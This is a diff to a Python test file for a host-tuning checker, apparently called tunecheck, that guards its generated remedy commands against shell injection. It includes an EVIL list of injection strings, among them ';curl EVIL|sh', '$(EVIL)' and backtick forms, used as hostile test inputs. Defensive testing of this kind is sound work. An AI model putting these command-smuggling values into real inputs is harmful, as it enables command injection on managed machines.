@@ -35,15 +35,18 @@ from tunecheck.rules.finding import Remedy
 from tunecheck.spec.frozen import Frozen
 
 #: Made by the control node from what the host said, never by the host.
-_OURS = ("source", "reason", "relation")
+_OURS = ("source", "reason", "relation", "kind")
 #: Each has in it what a shell acts on, or what Ansible's -l takes for more than one host.
 EVIL = (";curl EVIL|sh", "$(EVIL)", "`EVIL`", "' EVIL '", '" EVIL "', " EVIL", "\nEVIL", "|EVIL", "&EVIL", "<EVIL>",
         "*EVIL", "!EVIL", "\\EVIL", "\u202eEVIL", "run: EVIL;", "{EVIL,x}", "#EVIL")
 #: What only the words of a command may hold: everything that a shell takes as it is, and the one script of ours.
 PLAIN = re.compile(r"[A-Za-z0-9@%+=:,./_-]+")
-SCRIPT = re.compile(r"(?:echo [a-z0-9:.-]+ > /sys/[a-z0-9/:._]+(?: && |$))+")
+SCRIPT = re.compile(r"(?:echo [a-z0-9:.-]+ > /sys/[a-z0-9/:._]+(?: && |$))+"
+                    r"|echo [a-z0-9_]+ \| tee(?: /sys/[a-z0-9/:._*]+)+")
+#: What is looked for in the kernel log: words of ours, quoted.
+SOUGHT = re.compile(r"[A-Za-z0-9_]+(?:[| ][A-Za-z0-9_]+)*")
 RULES_OF = Path(tunecheck.rules.__file__).parent
-GIVES = re.compile(r"\b(?:run|play|hold|smi|install|release|boot_fix|clear_now)\(")
+GIVES = re.compile(r"\b(?:run|play|hold|smi|install|release|boot_fix|clear_now|typed)\(")
 
 
 def _gives_commands(path: Path) -> bool:
@@ -81,7 +84,8 @@ def _check(command: Command) -> None:
     assert shlex.split(command.shown) == list(command.argv)
     assert "EVIL" not in command.shown
     for word in command.argv:
-        assert PLAIN.fullmatch(word) or SCRIPT.fullmatch(word), command
+        sought = "-g" in command.argv and SOUGHT.fullmatch(word)
+        assert PLAIN.fullmatch(word) or SCRIPT.fullmatch(word) or sought, command
 
 
 def _lied_to(path: Path, tries: int) -> Iterator[Finding]:
@@ -181,8 +185,44 @@ def test_no_rule_hides_a_command_in_its_words() -> None:
     """"run: " stands before a Command, never before text."""
     hidden = [f"{path.name}:{node.lineno}" for path in sorted(RULES_OF.glob("*.py")) for node in ast.walk(
         ast.parse(path.read_text(encoding="utf-8"))) if isinstance(node, ast.Constant) and isinstance(node.value, str)
-        and re.search(r"\brun: \S", node.value)]
+        and re.search(r"\brun: [^\s`]", node.value)]
     assert not hidden
+
+
+def test_what_is_typed_is_written_in_the_rule() -> None:
+    """typed("..."): back-ticks make a command, so no value of a host may be put into the sentence before."""
+    calls = [(path.name, node) for path in sorted(RULES_OF.glob("*.py")) for node in ast.walk(
+        ast.parse(path.read_text(encoding="utf-8"))) if isinstance(node, ast.Call) and node.args
+        and getattr(node.func, "attr", getattr(node.func, "id", "")) == "typed"]
+    put_in = [(name, node.lineno) for name, node in calls for part in ast.walk(node.args[0])
+              if isinstance(part, ast.FormattedValue)
+              and not (isinstance(part.value, ast.Name) and part.value.id.isupper())]
+    assert len(calls) > 30 and not put_in
+
+
+#: A program with an argument, as it stands in a sentence.
+COMMAND = re.compile(r"(?<![\w/.-])(?:sudo )?(?:nvidia-smi|dmesg|journalctl|lspci|setpci|update-grub|update-initramfs|"
+                     r"apt|dnf|systemctl|modprobe|sysctl|tunecheck|nvidia-ctk|chcpu|cpupower|grep|cat|dkms|mokutil|"
+                     r"ansible-playbook)"
+                     r"(?: -{1,2}[\w-]+| (?:status|show|topo|explain|p2p|preflight|record|generate)\b)")
+
+
+@pytest.mark.parametrize("chosen", [CASES[start::8] for start in range(8)], ids=range(8))
+def test_every_command_of_a_remedy_is_a_field(chosen: list[Path]) -> None:
+    """What a person types is never only in the prose; the way by hand stands before the play, and both are the text."""
+    for path in chosen:
+        snapshot, frozen, case = _cases(path)
+        check = next(check for check in CHECKS if check.id == check_of(path))
+        for finding in check.judge(case(snapshot, frozen)):
+            fix = finding.remedy
+            if fix is None:
+                continue
+            prose = "".join(part for part in fix.parts if isinstance(part, str))
+            assert not COMMAND.search(prose) and "`" not in fix.text, (path.stem, fix.text)
+            assert [part.shown for part in fix.parts if isinstance(part, Command)] == [
+                each.shown for each in fix.commands], fix.text
+            assert fix.text.endswith(fix.play_text) and fix.text.startswith(fix.by_hand)
+            assert not fix.play_text or (fix.play is not None and fix.play.where == "control")
 
 
 def test_the_first_words_of_a_command_are_written_in_the_rule() -> None:
